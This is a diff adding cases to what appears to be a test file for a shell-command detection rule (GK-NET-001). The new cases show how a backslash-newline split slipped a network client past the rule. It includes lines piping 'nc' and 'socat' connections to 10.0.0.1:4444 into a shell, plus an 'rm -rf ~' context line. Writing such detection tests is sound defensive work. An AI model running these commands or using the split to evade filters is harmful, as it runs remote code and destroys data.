@@ -77,3 +77,17 @@ EOF
 ! cat <<'EOF'
 rm -rf ~
 EOF
+
+# -- a line continuation between the network client's words (plugins.network) ---------------
+# `\<newline>` between words is a blank to bash; the network plugin's pattern (a client piped
+# into a shell) stopped at the newline: `nc \<newline>10.0.0.1 4444 | sh` was REVIEW only.
+# bash: `cat \<newline>s.txt | sh` ran the `touch m5` that s.txt held.
+# ruleid: GK-NET-001
+nc \
+10.0.0.1 4444 | sh
+# ruleid: GK-NET-001
+socat \
+tcp:10.0.0.1:4444 - | bash
+# ok: GK-NET-001
+cat \
+README.md | wc -l
